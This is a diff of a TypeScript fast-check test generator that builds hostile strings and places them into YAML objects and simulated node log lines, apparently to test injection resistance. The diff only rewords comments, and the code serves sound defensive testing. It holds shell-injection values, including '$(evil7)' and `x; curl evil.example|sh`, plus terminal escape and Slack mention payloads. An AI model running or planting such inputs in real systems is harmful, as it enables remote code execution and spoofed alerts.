@@ -6,7 +6,7 @@ import { load } from 'js-yaml';
 
 const { objects } = load(readFileSync(join(import.meta.dirname, 'strangers.yaml'), 'utf8')) as { objects: object[] };
 
-/** Stands in each text that a shell would run. */
+/** In each text that a shell would run. */
 export const canary = '$(evil7)';
 
 const ascii = ['\0', '\t', '\n', '\r\n', '\u001b[2J', '\u001b]8;;https://evil.example\u0007', '\u007f'];
@@ -16,7 +16,7 @@ const mentions = ['<!channel>', '<!here|x>', '<@U012AB3CD>', '<!subteam^S012>', 
 const markup = [...mentions, '<https://evil.example/x|Runbook>', 'https://evil.example/x', 'slack://user'];
 const shell = [canary, `\`${canary}\``, `';${canary};'`, `x; curl evil.example|sh #${canary}`, `"${canary}"`];
 
-/** One such text, alone or in another. */
+/** One such text, alone or within another. */
 export const hostile: fc.Arbitrary<string> = fc
   .array(
     fc.oneof(
@@ -45,7 +45,7 @@ export const hostile: fc.Arbitrary<string> = fc
 
 type Path = readonly (string | number)[];
 
-/** Every string in it, but for the kind that says what an object is. */
+/** The paths of all strings in it, except for the kind of an object. */
 function leavesOf(value: unknown, path: Path = []): Path[] {
   if (typeof value === 'string') return path.length === 2 && path[1] === 'kind' ? [] : [path];
   if (typeof value !== 'object' || value === null) return [];
@@ -60,7 +60,7 @@ function put(into: unknown, path: Path, text: string): void {
   here[path.at(-1) as string] = text;
 }
 
-/** The objects with a few of their strings replaced, or with something behind what they were. */
+/** The objects with a few of their strings replaced or extended. */
 export const strangeObjects: fc.Arbitrary<unknown[]> = fc
   .array(fc.record({ path: fc.constantFrom(...leaves), text: hostile, behind: fc.boolean() }), { maxLength: 6 })
   .map((changes) => {
@@ -75,7 +75,7 @@ export const strangeObjects: fc.Arbitrary<unknown[]> = fc
 const quoted = (text: string): string => JSON.stringify(text).slice(1, -1);
 const header = 'LEN=60 TOS=0x00 PREC=0x00 TTL=62 ID=1 DF PROTO=TCP SPT=38736';
 
-/** Lines into which one text is put: each place where a writer of logs takes in a word of a stranger. */
+/** Lines with one text inserted: each place where a writer of logs inserts a stranger's word. */
 export const templates: readonly ((text: string, second: number) => string)[] = [
   (text) => `node-b kernel: ${text}IN=eth0 OUT=eth1 SRC=10.244.0.41 DST=10.244.1.30 ${header} DPT=5432 SYN`,
   (text) => `node-b kernel: calico-drop: ${text} IN=eth0 OUT=eth1 SRC=203.0.113.9 DST=10.244.1.30 ${header} DPT=80 SYN`,
@@ -107,7 +107,7 @@ export const templates: readonly ((text: string, second: number) => string)[] = 
   (text) => `node-b bird[12]: bird: Mesh_${text}: Error: Hold timer expired`,
 ];
 
-/** Each line comes again after half a minute: a record that comes once is no incident. */
+/** Each line comes again after half a minute, because a record that comes once is not an incident. */
 export const strangeLog: fc.Arbitrary<string> = fc
   .array(fc.record({ template: fc.constantFrom(...templates), text: hostile }), { minLength: 1, maxLength: 6 })
   .map((entries) =>
